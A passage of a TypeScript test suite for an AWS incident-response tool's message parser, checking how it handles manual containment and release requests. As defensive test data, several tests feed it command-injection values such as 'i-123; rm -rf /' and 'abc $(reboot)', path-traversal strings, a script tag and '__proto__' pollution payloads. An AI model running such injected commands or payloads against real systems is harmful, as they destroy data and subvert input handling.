    });

    it('does not take a resource type from a __proto__ object', () => {
      // Prepare
      const body = ec2Variant((e) => delete e.detail.resource.resourceType).replace('"resource":{', '"resource":{"__proto__":{"resourceType":"Instance"},');

      // Act
      const error = rejectionOf(body);

      // Assess
      expect(error.reasons[0]).toMatch(/^detail\.resource\.resourceType:/);
    });
  });

  describe('manual findings', () => {
    const valid = { resource: { resourceType: 'Instance', id: INSTANCE_ID }, ticket: 'SEC-1234', requestedBy: 'alice@example.com' };
    /** Every resource type a responder may contain by hand: its playbook, an id of its grammar, and one that is not. */
    const MANUAL_CASES: Record<string, { playbook: PlaybookName; valid: string; invalid: string; message: string }> = {
      Instance: { playbook: 'ec2-instance', valid: INSTANCE_ID, invalid: 'i-123; rm -rf /', message: 'not an EC2 instance id' },
      S3Bucket: { playbook: 's3-bucket', valid: 'acme-prod-customer-exports', invalid: 'My Bucket', message: 'not an S3 bucket name' },
      IAMUser: { playbook: 'iam-user', valid: 'alice.nguyen', invalid: '../../admin', message: 'not an IAM user or role name' },
      IAMRole: { playbook: 'iam-role', valid: 'web-app-instance-role', invalid: 'arn:aws:iam::111122223333:role/web-app-instance-role', message: 'not an IAM user or role name' },
      Account: { playbook: 'account', valid: ACCOUNT_ID, invalid: '11112222333', message: 'account id must be 12 digits' },
      ECSTask: {
        playbook: 'ecs-task',
        valid: 'arn:aws:ecs:us-east-1:111122223333:task/payments-prod/3f6c0b2a9d8e4f7a8b1c2d3e4f5a6b7c',
        invalid: 'task/payments-prod/3f6c0b2a9d8e4f7a8b1c2d3e4f5a6b7c',
        message: 'not an ECS ARN',
      },
      Container: { playbook: 'container', valid: '5e2f8a1c4b7d0e3f6a9c2b5d8e1f4a7c0b3d6e9f2a5c8b1d4e7f0a3c6b9d2e5f', invalid: 'abc $(reboot)', message: 'not a container id' },
      RDSDBInstance: { playbook: 'rds-instance', valid: 'orders-aurora-instance-1', invalid: '1-orders', message: 'not a DB instance identifier' },
    };

    it('turns a manual request into an EC2 incident with the ticket and requester', () => {
      // Act
      const [incident] = parseFindingMessage(JSON.stringify(manualEvent(valid)));

      // Assess
      expect(incident).toMatchObject({
        playbook: 'ec2-instance',
        origin: 'manual',
        findingId: 'manual-SEC-1234',
        findingType: 'Manual:Firebreak/Containment',
        title: 'Manual containment requested by alice@example.com',
        severity: 10,
        accountId: ACCOUNT_ID,
        region: 'us-east-1',
        archived: false,
        sample: false,
        count: 1,
        ticket: 'SEC-1234',
        requestedBy: 'alice@example.com',
        remoteIps: [],
        resource: { type: 'Instance', id: INSTANCE_ID, hints: {} },
      });
      expect(incident!.incidentId).toBe(incidentIdFor(ACCOUNT_ID, 'manual-SEC-1234', INSTANCE_ID));
    });

    it('acts in the account and region that put it on the bus, with the severity it names, and keeps its reason', () => {
      // Prepare
      const detail = { ...valid, ticket: 'INC#42/b', accountId: ACCOUNT_ID, region: REGION, severity: 6, reason: 'seen on the honeypot' };

      // Act
      const [incident] = parseFindingMessage(JSON.stringify(manualEvent(detail)));

      // Assess
      expect(incident).toMatchObject({ accountId: ACCOUNT_ID, region: REGION, severity: 6, title: 'seen on the honeypot', findingId: 'manual-INC_42_b' });
    });

    it('refuses a manual finding that names another account or region than the bus it was put on', () => {
      // Act
      const error = rejectionOf(JSON.stringify(manualEvent({ ...valid, accountId: '444455556666', region: 'eu-west-1' })));

      // Assess
      expect(error.reasons).toEqual([
        `detail.accountId 444455556666 is not the account that put the event on the bus (${ACCOUNT_ID})`,
        `detail.region eu-west-1 is not the region of the bus (${REGION})`,
      ]);
    });

    it.each([
      ['shell characters', 'SEC-1; rm -rf /'],
      ['a leading dash', '-SEC-1'],
      ['spaces', 'SEC 1'],
      ['more than 64 characters', `S${'1'.repeat(64)}`],
      ['unicode', 'SEC-１'],
    ])('rejects a ticket with %s', (_what, ticket) => {
      // Act
      const error = rejectionOf(JSON.stringify(manualEvent({ ...valid, ticket })));

      // Assess
      expect(error.reasons[0]).toMatch(/^detail\.ticket: ticket must be 1-64 characters/);
    });

    it('rejects a requester that is not an IAM-style name', () => {
      // Act
      const error = rejectionOf(JSON.stringify(manualEvent({ ...valid, requestedBy: 'alice <script>' })));

      // Assess
      expect(error.reasons[0]).toMatch(/^detail\.requestedBy:/);
    });

    it('rejects a manual request with a hostile instance id', () => {
      // Act
      const error = rejectionOf(JSON.stringify(manualEvent({ ...valid, resource: { resourceType: 'Instance', id: 'i-123; rm -rf /' } })));

      // Assess
      expect(error.reasons).toEqual(['detail.resource.id: not an EC2 instance id']);
    });

    it('accepts exactly the resource types of MANUAL_RESOURCE_TYPES, one playbook each', () => {
      // Act
      const types = Object.keys(MANUAL_RESOURCE_TYPES).sort();

      // Assess
      expect(types).toEqual(Object.keys(MANUAL_CASES).sort());
      expect(Object.fromEntries(types.map((t) => [t, MANUAL_RESOURCE_TYPES[t]]))).toEqual(Object.fromEntries(types.map((t) => [t, MANUAL_CASES[t]!.playbook])));
    });

    it.each(Object.entries(MANUAL_CASES))('turns a manual request for a %s into an incident of its playbook', (resourceType, c) => {
      // Prepare
      const body = JSON.stringify(manualEvent({ ...valid, resource: { resourceType, id: c.valid } }));

      // Act
      const [incident] = parseFindingMessage(body);

      // Assess
      expect(incident).toMatchObject({ playbook: c.playbook, origin: 'manual', resource: { type: resourceType, id: c.valid, hints: {} }, accountId: ACCOUNT_ID, region: REGION });
      expect(incident!.incidentId).toBe(incidentIdFor(ACCOUNT_ID, 'manual-SEC-1234', c.valid));
    });

    it.each(Object.entries(MANUAL_CASES))('rejects a manual request for a %s whose id does not have its grammar', (resourceType, c) => {
      // Prepare
      const body = JSON.stringify(manualEvent({ ...valid, resource: { resourceType, id: c.invalid } }));

      // Act
      const error = rejectionOf(body);

      // Assess
      expect(error.reasons).toEqual([`detail.resource.id: ${c.message}`]);
    });

    it.each(['Lambda', 'EKSCluster', 'AccessKey', 'constructor', 'toString'])('rejects a manual request for the resource type %s, listing the ones it may name', (resourceType) => {
      // Act
      const error = rejectionOf(JSON.stringify(manualEvent({ ...valid, resource: { resourceType, id: 'anything' } })));

      // Assess
      expect(error.reasons).toEqual([
        `detail.resource.resourceType: manual findings name one of Instance, S3Bucket, IAMUser, IAMRole, Account, ECSTask, Container, RDSDBInstance, not "${resourceType}"`,
      ]);
    });

    it('rejects a manual source with the GuardDuty detail-type', () => {
      // Act
      const error = rejectionOf(JSON.stringify(manualEvent(valid, { 'detail-type': 'GuardDuty Finding' })));

      // Assess
      expect(error.reasons).toEqual([
        'source firebreak.manual with detail-type "GuardDuty Finding" is not an event Firebreak takes (firebreak.manual/Firebreak Manual Finding, firebreak.manual/Firebreak Manual Release, firebreak.handoff/Firebreak Hand-off, firebreak.redrive/Firebreak Redrive, firebreak.resume/Firebreak Resume)',
      ]);
    });

    it('rejects a manual request without a ticket', () => {
      // Prepare
      const { ticket: _ticket, ...withoutTicket } = valid;

      // Act
      const error = rejectionOf(JSON.stringify(manualEvent(withoutTicket)));

      // Assess
      expect(error.reasons[0]).toMatch(/^detail\.ticket:/);
    });
  });
});

describe('Function: parseMessage', () => {
  const INCIDENT = 'inc-0123456789abcdef';
  const valid = { incidentId: INCIDENT, resource: { resourceType: 'Instance', id: INSTANCE_ID }, reason: 'false positive: pen test SEC-42', requestedBy: 'arn:aws:iam::111122223333:user/alice' };
  const releaseEvent = (detail: Record<string, unknown>) => JSON.stringify(manualEvent(detail, { 'detail-type': 'Firebreak Manual Release' }));
  const releaseRejection = (body: string): InvalidFindingError => {
    try {
      parseMessage(body);
    } catch (error) {
      expect(error).toBeInstanceOf(InvalidFindingError);
      return error as InvalidFindingError;
    }
    throw new Error('expected the message to be rejected');
  };

  it('turns a Firebreak Manual Release into a release request for the EC2 playbook', () => {
    // Act
    const parsed = parseMessage(releaseEvent(valid));

    // Assess
    expect(parsed).toEqual({
      kind: 'release',
      release: {
        incidentId: INCIDENT,
        playbook: 'ec2-instance',
        resource: { type: 'Instance', id: INSTANCE_ID },
        reason: 'false positive: pen test SEC-42',
        requestedBy: 'arn:aws:iam::111122223333:user/alice',
        reattach: false,
        eventId: '0f0e0d0c-0b0a-4909-8807-060504030201',
        eventTime: '2025-06-19T14:50:00Z',
        accountId: ACCOUNT_ID,
        region: 'us-east-1',
      },
    });
  });

  it.each([
    ['S3Bucket', 'acme-prod-customer-exports', 's3-bucket'],
    ['IAMRole', 'web-app-instance-role', 'iam-role'],
    ['Account', ACCOUNT_ID, 'account'],
  ] as const)('routes a release of a %s to its playbook', (resourceType, id, playbook) => {
    // Act
    const parsed = parseMessage(releaseEvent({ ...valid, resource: { resourceType, id } }));

    // Assess
    expect(parsed).toMatchObject({ kind: 'release', release: { playbook, resource: { type: resourceType, id } } });
  });

  it('keeps the request to reattach the instance to its Auto Scaling group', () => {
    // Act
    const parsed = parseMessage(releaseEvent({ ...valid, reattach: true }));

    // Assess
    expect(parsed).toMatchObject({ kind: 'release', release: { reattach: true } });
  });

  it('returns the incidents of a finding, as parseFindingMessage does', () => {
    // Act
    const parsed = parseMessage(fixtureBody('ec2-c-cactivity-b.json'));

    // Assess
    expect(parsed).toEqual({ kind: 'findings', incidents: parseFindingMessage(fixtureBody('ec2-c-cactivity-b.json')) });
  });

  it('is not taken for a finding by parseFindingMessage', () => {
    // Act
    const error = rejectionOf(releaseEvent(valid));

    // Assess
    expect(error.reasons).toEqual(['a Firebreak Manual Release is a release request, not a finding']);
  });

  it('cuts a 10 KB reason to 512 characters and strips its control characters', () => {
    // Act
    const parsed = parseMessage(releaseEvent({ ...valid, reason: `ok\u0000\u001b[31m${'x'.repeat(10_000)}` }));

    // Assess
    const reason = parsed.kind === 'release' ? parsed.release.reason : '';
    expect(reason).toHaveLength(512);
    expect(reason.startsWith('ok  [31mxxx')).toBe(true);
  });

  it.each([
    ['an empty reason', { reason: '' }, /^detail\.reason: reason must not be empty$/],
    ['a reason of control characters only', { reason: '\u0000\n\t' }, /^detail\.reason: reason must not be empty$/],
    ['no reason', { reason: undefined }, /^detail\.reason:/],
    ['no requester', { requestedBy: undefined }, /^detail\.requestedBy:/],
    ['a requester with markup', { requestedBy: 'alice <script>' }, /^detail\.requestedBy: requestedBy must be an IAM-style name or ARN$/],
    ['an incident id with path characters', { incidentId: 'inc-../../../etc/pwd' }, /^detail\.incidentId: incident id must be inc- followed by 16 hex digits \(and -g<n> for a later generation\)$/],
    ['an incident id with upper-case hex', { incidentId: 'inc-0123456789ABCDEF' }, /^detail\.incidentId:/],
    ['a hostile instance id', { resource: { resourceType: 'Instance', id: 'i-123; rm -rf /' } }, /^detail\.resource\.id: not an EC2 instance id$/],
    ['a resource type no playbook handles', { resource: { resourceType: 'Lambda', id: 'fn' } }, /^detail\.resource\.resourceType: manual releases name one of Instance, .*, not "Lambda"$/],
    ['a bucket name that is not one', { resource: { resourceType: 'S3Bucket', id: 'My Bucket' } }, /^detail\.resource\.id: not an S3 bucket name$/],
    ['reattach as a string', { reattach: 'yes' }, /^detail\.reattach:/],
  ])('rejects a release with %s', (_what, overrides, reason) => {
    // Act
    const error = releaseRejection(releaseEvent({ ...valid, ...overrides }));

    // Assess
    expect(error.reasons[0]).toMatch(reason);
  });

  it('does not take a resource from a __proto__ key', () => {
    // Prepare
    const body = releaseEvent(valid).replace('"resource":{', '"__proto__":{"resource":{"resourceType":"Instance","id":"i-0fffffffffffffff0"}},"resource":{');

    // Act
    const parsed = parseMessage(body);

    // Assess
    expect(parsed).toMatchObject({ kind: 'release', release: { resource: { id: INSTANCE_ID } } });
    expect(({} as Record<string, unknown>).resource).toBeUndefined();
  });
});

describe('Function: cleanText', () => {
  it('turns every control character into a space and bounds the length', () => {
    // Prepare
    const hostile = 'a\u0000b\u001b[31mc\nd\re\u007ff' + 'x'.repeat(100);

    // Act
    const cleaned = cleanText(hostile, 12);

    // Assess
    expect(cleaned).toBe('a b [31mc d ');
    expect(cleanText('plain text, unicode ünïcödé', 100)).toBe('plain text, unicode ünïcödé');
  });
});
